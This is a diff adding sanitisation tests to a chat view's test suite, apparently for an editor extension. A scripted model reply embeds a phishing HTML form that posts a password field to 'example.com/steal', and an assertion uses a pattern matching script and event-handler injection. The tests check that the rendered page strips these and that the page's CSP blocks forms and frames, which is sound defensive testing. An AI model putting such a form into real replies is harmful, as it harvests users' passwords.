@@ -7,6 +7,7 @@ import type { RenderReport } from "../../src/protocol/viewState";
 import type { NewProjectResult } from "../../src/features/projects/projectsFeature";
 import { activateRedgreen, eventually, openView } from "./harness";
 import { startScriptedOpenAi } from "./scriptedOpenAi";
+import { ui } from "./ui";
 
 describe("The PM in the Chat view", function () {
   this.timeout(120_000);
@@ -181,6 +182,31 @@ describe("The PM in the Chat view", function () {
       assert.doesNotMatch(String(page.rendered), /onerror|<script|<iframe|javascript:/);
     } finally {
       await server.close();
+    }
+  });
+
+  it("renders no form or form control from a model's reply, so a reply cannot ask for and post the user's input", async () => {
+    const phishing = 'Please confirm:\n\n<form action="https://example.com/steal" method="post"><label for="pw">Password</label><input id="pw" name="pw" type="password"><select name="s"><option>one</option></select><textarea name="t">notes</textarea><button type="submit" formaction="https://example.com/other">Send</button></form>';
+    const server = await startScriptedOpenAi((request) => (request.schema ? '{"intent":"question"}' : phishing));
+    try {
+      await useRegistry({ models: [{ id: "reasoning", backend: "openai", url: server.url, model: "scripted" }] });
+      const before = await shown();
+      await say("What do you need from me?");
+      const page = await turnOver(before + 2);
+      assert.match(String(page.rendered), /Please confirm:/);
+      assert.match(String(page.rendered), /<label for="pw">Password<\/label>/, "a label is harmless and kept");
+      assert.doesNotMatch(String(page.rendered), /<(form|input|button|select|option|textarea)\b|action=/i);
+    } finally {
+      await server.close();
+    }
+  });
+
+  it("serves the chat page with a CSP that forbids form submissions, a <base> and frames", async function () {
+    if (!ui.available) this.skip();
+    const csp = String(await ui.attribute(".log", 'meta[http-equiv="Content-Security-Policy"]', "content"));
+    const directives = csp.split(";").map((directive) => directive.trim());
+    for (const wanted of ["default-src 'none'", "form-action 'none'", "base-uri 'none'", "frame-src 'none'"]) {
+      assert.ok(directives.includes(wanted), `the CSP lacks ${wanted}: ${csp}`);
     }
   });
 
